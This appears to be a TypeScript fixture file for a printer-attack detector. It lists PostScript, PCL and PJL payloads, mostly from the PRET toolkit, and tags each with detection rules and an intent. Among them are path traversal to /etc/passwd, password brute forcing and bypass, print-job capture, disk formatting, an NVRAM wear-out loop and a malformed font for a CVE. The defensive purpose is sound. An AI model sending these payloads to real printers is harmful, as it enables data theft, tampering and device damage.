/** Attacks in PostScript and PCL: the commands of PRET in these modes, and what others print. */
import { type Attack, framed, pretPcl, pretPs, pretPsGlobal, pretPsSuper, UEL } from "./attack.ts";

const PRET = "PRET a04bd04, postscript.py";
const PCL = "PRET a04bd04, pcl.py";
/** What every command of PRET in this mode shows. */
const MARK = "postscript-delimiter";
const shown = (name: string) => `/${name} { findall systemdict /${name} get exec} def`;

export const POSTSCRIPT_ATTACKS: Attack[] = [
  {
    what: "PRET connects",
    source: `${PRET}, on_connect`,
    sent: pretPs("(x1) = (x2) == << /DoPrintErrors false >> setsystemparams"),
    rules: [MARK, "postscript-sets-parameters"],
    intent: "tampering",
  },
  {
    what: "PRET with its output hack for BR-Script",
    source: "PRET, helper.py PS_IOHACK",
    sent: pretPs(
      "/print {(%stdout) (w) file dup 3 2 roll writestring flushfile} def\n/== {128 string cvs print (\\n) print} def\n{product print} stopped",
    ),
    rules: [MARK, "postscript-asks-device"],
    intent: "reconnaissance",
  },
  ...[
    ["id", "product print"],
    [
      "version",
      "currentpagedevice dup (PostRenderingEnhance) known {(Adobe\\n) print} if\n(Version: ) print version ==",
    ],
    ["devices", "/str 128 string def (*) {print (\\n) print} str /IODevice resourceforall"],
    ["df", "(%disk0%) devstatus dup {pop == == == == == == == == } if"],
    ["free", "(max: ) print vmstatus dup == pop"],
    ["uptime", "realtime =="],
    ["date", "(%Calendar%) currentdevparams /DateTime get print"],
    ["pagecount", "currentsystemparams dup /PageCount known\n{/PageCount get ==}{(Not available) print} ifelse"],
    ["known", "(showpage: ) print systemdict /showpage known =="],
    ["resource", "(*) {print (\\n) print} 128 string /Category resourceforall"],
  ].map(([command, program]): Attack => ({
    what: `PRET ${command}`,
    source: PRET,
    sent: pretPs(program!),
    rules: [MARK, "postscript-asks-device"],
    intent: "reconnaissance",
  })),
  {
    what: "the device's name and page count, by hand",
    source: "PostScript Language Reference, statusdict and currentsystemparams",
    sent: "%!\nproduct print (\\n) print statusdict begin pagecount == end flush\n",
    rules: ["postscript-asks-device"],
    intent: "reconnaissance",
  },
  {
    what: "PRET ls",
    source: `${PRET}, dirlist`,
    sent: pretPs(
      "{false statusdict /setfilenameextend get exec} stopped\n/str 256 string def (%*%*) {print (\\n) print} str filenameforall",
    ),
    rules: [MARK, "postscript-reads-files"],
    intent: "data-theft",
  },
  {
    what: "PRET get",
    source: `${PRET}, get`,
    sent: pretPs(
      "/byte (0) def\n/infile (%disk0%../../etc/passwd) (r) file def\n{infile read {byte exch 0 exch put\n(%stdout) (w) file byte writestring}\n{infile closefile exit} ifelse\n} loop",
    ),
    rules: ["postscript-reads-files", "postscript-traversal"],
    intent: "exploit",
  },
  {
    what: "PRET put",
    source: `${PRET}, put`,
    sent: pretPs(
      "/outfile (%disk0%a.txt) (w+) file def\noutfile (\\150\\145\\154\\154\\157) writestring\noutfile closefile\n",
    ),
    rules: ["postscript-changes-files"],
    intent: "tampering",
  },
  {
    what: "PRET delete and rename",
    source: PRET,
    sent: pretPs("(%disk0%a.txt) deletefile") + pretPs("(%disk0%a) (%disk0%b) renamefile"),
    rules: ["postscript-changes-files"],
    intent: "tampering",
  },
  {
    what: "a path of dots in PostScript",
    source: "CVE-2012-5221",
    sent: "%!\n/str 256 string def (%disk0%../../*) {==} str filenameforall\n",
    rules: ["postscript-traversal", "postscript-reads-files"],
    intent: "exploit",
  },
  {
    what: "PRET lock",
    source: `${PRET}, do_lock`,
    sent: pretPs("<< /Password () /SystemParamsPassword (4711) /StartJobPassword (4711) >> setsystemparams"),
    rules: ["postscript-changes-password"],
    intent: "tampering",
  },
  {
    what: "PRET unlock by brute force",
    source: `${PRET}, do_unlock`,
    sent: pretPs(
      "/min 0 def /max 1048576 def\nstatusdict begin {min 1 max\n  {dup checkpassword {== flush stop}{pop} ifelse} for\n} stopped pop",
    ),
    rules: ["postscript-guesses-password"],
    intent: "tampering",
  },
  {
    what: "PRET unlock bypass",
    source: `${PRET}, do_unlock`,
    sent: pretPsSuper("<< /SystemParamsPassword (0) /StartJobPassword (0) >> setsystemparams"),
    rules: ["postscript-superexec", "postscript-changes-password"],
    intent: "exploit",
  },
  {
    what: "PRET set",
    source: `${PRET}, do_set`,
    sent: pretPs(
      "true 0 startjob {\n/copies where {/copies 3 put} if\n/copies 3 store\n/copies 3 def\n} 1183615869 internaldict /superexec get exec",
    ),
    rules: ["postscript-superexec", "postscript-permanent"],
    intent: "exploit",
  },
  {
    what: "PRET dicts",
    source: `${PRET}, do_dicts`,
    sent: pretPs(
      "1183615869 internaldict\ndup rcheck {(r) print}{(-) print} ifelse\n( ) print maxlength 128 string cvs print",
    ),
    rules: [MARK, "postscript-reads-dictionaries"],
    intent: "reconnaissance",
  },
  {
    what: "PRET shell",
    source: `${PRET}, do_shell`,
    sent: `${UEL}@PJL ENTER LANGUAGE = POSTSCRIPT\n%!\nfalse echo executive\n`,
    rules: ["postscript-asks-device"],
    intent: "reconnaissance",
  },
  {
    what: "PRET restart",
    source: `${PRET}, do_restart`,
    sent: pretPsGlobal("systemdict /quit get exec"),
    rules: ["postscript-loop", "postscript-permanent"],
    intent: "tampering",
  },
  {
    what: "the server loop ended, older way",
    source: "PostScript Language Reference, exitserver",
    sent: "%!\nserverdict begin 0 exitserver\nsystemdict /quit get exec\n",
    rules: ["postscript-loop", "postscript-permanent"],
    intent: "tampering",
  },
  {
    what: "PRET reset",
    source: `${PRET}, do_reset`,
    sent: pretPs("<< /FactoryDefaults true >> setsystemparams"),
    rules: ["postscript-loop", "postscript-sets-parameters"],
    intent: "tampering",
  },
  {
    what: "PRET format",
    source: `${PRET}, do_format`,
    sent: pretPs("statusdict begin (%disk0%) () initializedisk end"),
    rules: ["postscript-loop"],
    intent: "denial-of-service",
  },
  {
    what: "PRET disable",
    source: `${PRET}, do_disable`,
    sent: pretPsGlobal("userdict /showpage known dup ==\n{userdict /showpage undef}\n{/showpage {} def} ifelse"),
    rules: ["postscript-loop", "postscript-permanent"],
    intent: "tampering",
  },
  {
    what: "PRET destroy",
    source: `${PRET}, do_destroy`,
    sent: pretPsGlobal(
      "/value {currentsystemparams /WaitTimeout get} def\n/count 0 def /new {count 2 mod 30 add} def\n{ << /WaitTimeout new >> setsystemparams\n  /count count 1 add def % increment\n  value count 100 eq {exit} if\n} loop",
    ),
    rules: ["postscript-sets-parameters", "postscript-wears-out", "postscript-permanent"],
    intent: "tampering",
  },
  {
    what: "PRET hang",
    source: `${PRET}, do_hang`,
    sent: pretPs("{} loop"),
    rules: ["postscript-loop", MARK],
    intent: "denial-of-service",
  },
  {
    what: "PRET overlay and cross",
    source: `${PRET}, overlay`,
    sent: pretPsGlobal(
      "{overlay closefile} stopped % free memory\n/overlay systemdict /currentfile get exec\n42 () /SubFileDecode filter\n/ReusableStreamDecode filter\n72 72 moveto (boo) show\ndef\n/showpage {save /showpage {} def overlay dup\n0 setfileposition cvx exec restore systemdict\n/showpage get exec} def",
    ),
    rules: ["postscript-alters-pages", "postscript-permanent"],
    intent: "tampering",
  },
  {
    what: "PRET replace",
    source: `${PRET}, do_replace`,
    sent: pretPsGlobal(
      `/findall {{(yes) search {replace}{exit} ifelse} loop} def\n${["show", "ashow", "widthshow", "kshow"].map(shown).join("\n")}`,
    ),
    rules: ["postscript-alters-pages", "postscript-permanent"],
    intent: "tampering",
  },
  {
    what: "PRET capture start",
    source: `${PRET}, do_capture`,
    sent: pretPs(
      "true 0 startjob {\n/document {(%stdin) (r) file /ReusableStreamDecode filter} bind def\n/capturehook {{ userdict /capturedict known not {/capturedict 50000 dict def} if } stopped} bind def\n<< /BeginPage {capturehook} bind >> setpagedevice\n(Future print jobs will be captured in memory!)}\n{(Cannot capture - unlock me first)} ifelse print",
    ),
    rules: ["postscript-captures-jobs", "postscript-permanent"],
    intent: "data-theft",
  },
  {
    what: "PRET capture list and fetch",
    source: `${PRET}, do_capture`,
    sent: pretPs("userdict /capturedict known {capturedict {exch ==} forall} if"),
    rules: ["postscript-captures-jobs"],
    intent: "data-theft",
  },
  {
    what: "PRET hold",
    source: `${PRET}, do_hold`,
    sent: pretPsGlobal(
      "/retention 1 def\n<< /Collate true /CollateDetails\n<< /Hold retention /Type 8 >> >> setpagedevice\n(Job retention ) print",
    ),
    rules: ["postscript-retains-jobs", "postscript-permanent"],
    intent: "data-theft",
  },
  {
    what: "pages without end",
    source: "PrinterReaper ac4c63f, storm",
    sent: "%!PS\n/Helvetica findfont 24 scalefont setfont\n1 1 50 { 72 700 moveto (PRINTERREAPER STORM - Page ) show 10 string cvs show showpage } for\n",
    rules: ["postscript-many-pages"],
    intent: "denial-of-service",
  },
  {
    what: "a program behind seventy harmless ones",
    source: "made up: a session writes down so many jobs and counts the rest",
    sent: Array.from({ length: 70 }, () => `%!\nshowpage\n${UEL}`).join("") + "%!\n{} loop\n",
    rules: ["more-said-than-written"],
    intent: "reconnaissance",
    gap: "only that there were more jobs is told; they are kept as files",
  },
];

export const PCL_ATTACKS: Attack[] = [
  {
    what: "PRET info fonts, macros, patterns, symbols",
    source: PCL,
    sent: ["0", "1", "2", "3"].map((entity) => pretPcl(`*s4T\x1b*s0U\x1b*s${entity}I`)).join(""),
    rules: ["pcl-entity-query"],
    intent: "reconnaissance",
  },
  {
    what: "PRET free",
    source: PCL,
    sent: pretPcl("*s1M"),
    rules: ["pcl-entity-query"],
    intent: "reconnaissance",
  },
  {
    what: "PRET put, its table of files",
    source: `${PCL}, macro 31337`,
    sent: pretPcl(`&f31337Y\x1b&f0X\x1b*s123X\x1b*s34X\x1b*s97X\x1b*s34X\x1b*s125X\x1b&f1X\x1b&f10X`),
    rules: ["pcl-macro-files"],
    intent: "tampering",
  },
  {
    what: "PRET put, a file",
    source: `${PCL}, macros 10000 to 19999`,
    sent: pretPcl(
      `&f10000Y\x1b&f0X${[..."hello there"].map((c) => `\x1b*s${c.charCodeAt(0)}X`).join("")}\x1b&f1X\x1b&f10X`,
    ),
    rules: ["pcl-macro-files"],
    intent: "tampering",
  },
  {
    what: "PRET get and delete",
    source: PCL,
    sent: pretPcl("&f31337Y\x1b&f2X") + pretPcl("&f10000Y\x1b&f8X"),
    rules: ["pcl-macro-files"],
    intent: "tampering",
  },
  {
    what: "PRET selftest",
    source: PCL,
    sent: pretPcl("z"),
    rules: ["pcl-self-test", "pcl-entity-query"],
    intent: "reconnaissance",
  },
  {
    what: "a font made to break the parser",
    source: "CVE-2021-39238, bytes as published in rules for intrusion detection",
    sent: "%PDF-1.4\n\x1c\x00\x20\x1c\x13\x9b\x1c\x27\x10\x0c\x0c\x0c\x0a\x8b\x0c\x14\x8b\x8b\x8b\x8c\x0c\x08\x8b",
    rules: ["font-parser"],
    intent: "exploit",
  },
  {
    what: "the device's web server asked through PJL",
    source: "a command line tool for the Color LaserJet CP1215",
    sent: `${UEL}@PJL ENTER LANGUAGE=HTTP\r\nGET /info_config.html HTTP/1.1\r\nHost: localhost\r\n\r\n${UEL}`,
    rules: ["web-server-through-pjl"],
    intent: "reconnaissance",
  },
  {
    what: "the device's configuration changed through PJL",
    source: "a command line tool for the Color LaserJet CP1215",
    sent: `${UEL}@PJL ENTER LANGUAGE=HTTP\r\nPOST /ssi/xml_config.html HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\n\r\nIPSetup=1${UEL}`,
    rules: ["configuration-through-pjl", "web-server-through-pjl"],
    intent: "tampering",
    on: ["hp-laserjet-p1102w"],
  },
  {
    what: "jobs kept as a default",
    source: "PJL Technical Reference Manual, HOLD",
    sent: framed("@PJL DEFAULT HOLD=STORE"),
    rules: ["jobs-retained"],
    intent: "data-theft",
  },
];
